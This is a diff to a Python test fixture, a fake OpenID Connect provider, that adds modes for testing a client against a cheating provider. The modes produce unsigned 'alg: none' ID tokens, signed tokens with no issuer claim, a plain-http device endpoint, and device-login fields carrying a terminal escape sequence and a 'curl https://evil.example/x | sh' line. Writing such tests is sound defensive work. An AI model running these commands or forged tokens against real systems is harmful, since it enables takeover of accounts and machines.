@@ -7,7 +7,8 @@ discovery, signing keys, dynamic registration, an authorization endpoint
 that signs the test user in without a form, a token endpoint issuing signed
 ID tokens, refresh tokens and access tokens of a chosen lifetime, and
 userinfo. Tests steer it through a few attributes (``deny``,
-``tamper_nonce``, ``registration``, ``code_exchange``, ``dribble_keys``).
+``tamper_nonce``, ``registration``, ``code_exchange``, ``dribble_keys``,
+``forge_id_token``, ``hostile_text``, ``plain_http_device``).
 
 With ``device`` on, it also offers the device login (RFC 8628) through
 authlib's server classes: authlib runs the grant (pending, slow_down,
@@ -39,7 +40,9 @@ from cryptography import x509
 from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import rsa
 from cryptography.x509.oid import NameOID
+from jwkest import b64d, b64e
 from jwkest.jwk import RSAKey
+from jwkest.jws import JWS
 from oic.oic.message import AuthorizationRequest, AuthorizationResponse
 from pyop.authz_state import AuthorizationState
 from pyop.exceptions import BearerTokenError, InvalidAccessToken, InvalidAuthorizationCode, OAuthError
@@ -125,6 +128,9 @@ class TestProvider:
         self.dribble_keys = False  # the keys' answer comes a byte every 0.1 s
         self.refreshes = 0
         self.device = False  # discovery offers the device login
+        self.forge_id_token = None  # "none": unsigned; "no-iss": signed, without an issuer
+        self.hostile_text = False  # the device login's code and address carry terminal commands
+        self.plain_http_device = False  # discovery names a plain-http device endpoint elsewhere
         self.device_codes = {}  # device code -> the grant's credential
         self.device_code_lifetime = 60  # seconds a device code lasts
         self.device_grants = {}  # user code -> (user, approved), once the user answered
@@ -138,7 +144,8 @@ class TestProvider:
         self.deny = self.tamper_nonce = False
         self.registration = True
         self.code_exchange = "answer"
-        self.dribble_keys = self.device = False
+        self.dribble_keys = self.device = self.hostile_text = self.plain_http_device = False
+        self.forge_id_token = None
         self.refreshes = self.device_polls = self.slow_downs = 0
         self.device_code_lifetime = 60
         self.device_codes.clear()
@@ -165,14 +172,25 @@ class TestProvider:
                                        redirect_uri=self.issuer + "/device")
         sub = self.authz_state.get_subject_identifier("public", user, None)
         access_token = self.authz_state.create_access_token(request, sub)
-        id_token = self.op._create_signed_id_token(client_id, sub, dict(USERS[user]),
-                                                   access_token_value=access_token.value)
+        id_token = self.forged(self.op._create_signed_id_token(client_id, sub, dict(USERS[user]),
+                                                               access_token_value=access_token.value))
         self.id_tokens.append(id_token)
         token = {"token_type": "Bearer", "access_token": access_token.value,
                  "expires_in": access_token.expires_in, "id_token": id_token}
         if include_refresh_token:
             token["refresh_token"] = self.authz_state.create_refresh_token(access_token.value)
         return token
+
+    def forged(self, id_token):
+        """The ID token as a provider that cheats sends it (``forge_id_token``), else as issued."""
+        if self.forge_id_token is None:
+            return id_token
+        header, payload, _ = id_token.split(".")
+        if self.forge_id_token == "none":
+            return b64e(b'{"alg": "none"}').decode() + "." + payload + "."
+        claims = json.loads(b64d(payload.encode()))
+        del claims["iss"]
+        return JWS(json.dumps(claims), alg="RS256").sign_compact([self.op.signing_key])
 
     def token_is_valid(self, token):
         try:
@@ -303,6 +321,8 @@ class _ProviderHandler(BaseHTTPRequestHandler):
                 del configuration["registration_endpoint"]
             if not provider.device:
                 del configuration["device_authorization_endpoint"]
+            elif provider.plain_http_device:
+                configuration["device_authorization_endpoint"] = "http://login.example.invalid/device"
             self._send(200, configuration.to_json())
         elif parts.path == "/jwks" and provider.dribble_keys:
             body = json.dumps(provider.op.jwks).encode()
@@ -363,6 +383,11 @@ class _ProviderHandler(BaseHTTPRequestHandler):
             else:
                 status, answer, headers = provider.device_server.create_endpoint_response("device_authorization",
                                                                                          request)
+                if provider.hostile_text:
+                    answer = json.loads(answer)
+                    answer["user_code"] += "\x1b]0;owned\x07"
+                    answer["verification_uri"] += "\r\nRun: curl https://evil.example/x | sh"
+                    answer = json.dumps(answer)
             self._send(status, answer, headers=[h for h in headers if h[0].lower() != "content-type"])
         elif path == "/registration":
             response = provider.op.handle_client_registration_request(body)
@@ -396,6 +421,7 @@ class _ProviderHandler(BaseHTTPRequestHandler):
                 self._send(status, json.dumps({"error": error.oauth_error, "error_description": str(error)}))
             else:
                 if "id_token" in response:
+                    response["id_token"] = provider.forged(response["id_token"])
                     provider.id_tokens.append(response["id_token"])
                 self._send(200, response.to_json(), headers=[("Cache-Control", "no-store")])
         else:
